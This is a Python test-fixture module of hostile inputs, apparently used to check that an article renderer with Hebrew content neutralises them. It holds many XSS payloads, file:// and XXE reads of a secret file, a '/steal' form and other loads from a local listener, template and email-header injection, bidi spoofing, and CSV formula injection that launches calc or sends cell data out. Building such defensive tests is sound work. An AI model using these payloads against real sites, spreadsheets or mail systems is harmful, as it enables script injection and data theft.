"""What hostile articles try. ``{port}`` is a listener on this machine, ``{secret}`` a file outside the repository.

Each payload stands in a place: the body, or a field of the front matter. What runs would set ``window.pwned``.
"""

from __future__ import annotations

RUN = "window.pwned=1"
SVG = "http://www.w3.org/2000/svg"

BODY = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script unclosed": f"<script>{RUN}",
    "script nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from elsewhere": '<script src="http://127.0.0.1:{port}/x.js"></script>',
    "script in a list": f"- פריט\n\n    <script>{RUN}</script>",
    "script after a fence": f"```\nקוד\n```\n<script>{RUN}</script>",
    "event handler": f'<img src="x.png" onerror="{RUN}">',
    "event handler, slash for blank": f"<svg/onload={RUN}>",
    "event handler in Markdown attributes": f'![תמונה](ok.png){{: onerror="{RUN}" }}',
    "details that open": f'<details open ontoggle="{RUN}"><summary>א</summary>ב</details>',
    "drawing with script": f"<svg><script>{RUN}</script></svg>",
    "drawing that animates a link": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text>א</text></a></svg>',
    "mathematics with a link": f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    "link to script": f"[לחצו](javascript:{RUN})",
    "link to script, letters mixed": f"[לחצו](JaVaScRiPt:{RUN})",
    "link to script, entity": f'<a href="javascript&colon;{RUN}">לחצו</a>',
    "link to script, tab inside": f'<a href="java\tscript:{RUN}">לחצו</a>',
    "link to script, blank before": f'<a href=" javascript:{RUN}">לחצו</a>',
    "link to script by reference": f"[לחצו][x]\n\n[x]: javascript:{RUN}",
    "link to script, in angle brackets": f"<javascript:{RUN}>",
    "link to a data page": f"[לחצו](data:text/html,<script>{RUN}</script>)",
    "link to vbscript": "[לחצו](vbscript:msgbox)",
    "link that takes the opener": '<a href="https://example.org" target="_blank">לחצו</a>',
    "frame": '<iframe src="http://127.0.0.1:{port}/frame"></iframe>',
    "frame with text of its own": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": '<object data="http://127.0.0.1:{port}/o.svg"></object><embed src="http://127.0.0.1:{port}/e">',
    "base address": '<base href="http://127.0.0.1:{port}/">',
    "refresh": '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:{port}/">',
    "style sheet": '<link rel="stylesheet" href="http://127.0.0.1:{port}/s.css">',
    "style with an import": "<style>@import url(http://127.0.0.1:{port}/i.css);</style>",
    "style with a font": "<style>@font-face{font-family:x;src:url(http://127.0.0.1:{port}/f.ttf)}p{font-family:x}</style>",
    "style attribute with an address": '<p style="background:url(http://127.0.0.1:{port}/b.png)">א</p>',
    "style attribute that covers the page": '<div style="position:fixed;inset:0;background:#fff">א</div>',
    "style attribute that reads a file": '<p style="background:url(file://{secret})">א</p>',
    "form of its own": '<form action="http://127.0.0.1:{port}/steal"><input name="p"><button>שלח</button></form>',
    "image from this machine": "![תמונה](http://127.0.0.1:{port}/i.png)",
    "image, protocol left out": "![תמונה](//127.0.0.1:{port}/i.png)",
    "image from a file": "![תמונה](file://{secret})",
    "image from a path": "![תמונה]({secret})",
    "image from above": "![תמונה](../../secret.txt)",
    "image in HTML from a file": '<img src="file://{secret}" alt="א">',
    "image with several sources": '<img srcset="http://127.0.0.1:{port}/s.png 2x" src="ok.png" alt="א">',
    "image in data": f"![תמונה](data:image/svg+xml,<svg onload='{RUN}'/>)",
    "attachment of a PDF": '<a rel="attachment" href="file://{secret}">קובץ</a>',
    "attachment link": '<link rel="attachment" href="file://{secret}">',
    "comment that does not close": f"<!-- <b>--!><script>{RUN}</script>",
    "text area": f"<textarea></textarea><script>{RUN}</script>",
    "template": f"<template><script>{RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript><script>{RUN}</script>"></noscript>',
    "Jinja in the text": "{{ 7*7 }} {% include '/etc/passwd' %}",
    "code that ends its block": f"`</code><script>{RUN}</script>`",
    "code language with markup": f'``` "><script>{RUN}</script>\nקוד\n```',
    "heading with markup": f"## כותרת <script>{RUN}</script>",
    "footnote with script": f"טקסט[^1].\n\n[^1]: הערה <script>{RUN}</script>",
    "notice with markup": f'!!! note "<script>{RUN}</script>"\n    טקסט',
    "include of a file": '--8<-- "{secret}"',
    "image that redirects to a file": "![תמונה](http://127.0.0.1:{port}/redirect)",
    "image in data, of bytes": "![תמונה](data:image/png;base64,iVBORw0KGgo=)",
    "style attribute that runs": f'<p style="width:expression({RUN});behavior:url(#x);-moz-binding:url(#x)">א</p>',
    "text turned by force": "מחיר: \u202e001\u202c שקל",
    "text turned by force, as an entity": "מחיר: &#x202e;001 שקל",
    "code turned around": "```python\nif level != 'user\u202e \u2066# admin\u2069 \u2066':\n    pass\n```",
    "link turned by force": "[לחצו](https://example.com/\u202egpj.exe)",
    **{
        f"file {name}": f"![תמונה]({name})"
        for name in ("script.svg", "fetch.svg", "style.svg", "entity.svg", "page.png")
    },
}

FILES = {
    "script.svg": f'<svg xmlns="{SVG}" onload="{RUN}"><script>{RUN}</script><path d="M0 0h9"/></svg>',
    "fetch.svg": f'<svg xmlns="{SVG}"><image href="http://127.0.0.1:{{port}}/i.png"/><image href="file://{{secret}}"/></svg>',
    "style.svg": f'<svg xmlns="{SVG}"><style>@import url(http://127.0.0.1:{{port}}/s.css);'
    "@font-face{font-family:x;src:url(http://127.0.0.1:{port}/f.ttf)}</style><text>א</text></svg>",
    "entity.svg": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{{secret}}">]><svg xmlns="{SVG}"><text>&x;</text></svg>',
    "page.png": f"<html><script>{RUN}</script></html>",
}
"""Images that lie beside the articles."""

FIELDS = ("title", "summary", "author", "subject", "preheader", "image_alt", "tags", "keywords")

TEXTS = {
    "tag": f"<script>{RUN}</script>",
    "attribute": f'" onmouseover="{RUN}',
    "end of JSON": f"</script><script>{RUN}</script>",
    "style": "</style><style>@import url(http://127.0.0.1:{port}/i.css)",
    "template": "{{ 7*7 }}",
    "header": "x\r\nBcc: thief@example.com\r\n\r\n<b>y",
    "text turned by force": "מחיר \u202e001",
}
"""What is put into all of :data:`FIELDS`."""

CELLS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '=HYPERLINK("http://127.0.0.1:1/?x="&A1,"x")',
    "=1+1\n=2+2",
]
"""What hostile cells of a list try in the spreadsheet of whoever opens an export (OWASP, CSV injection)."""
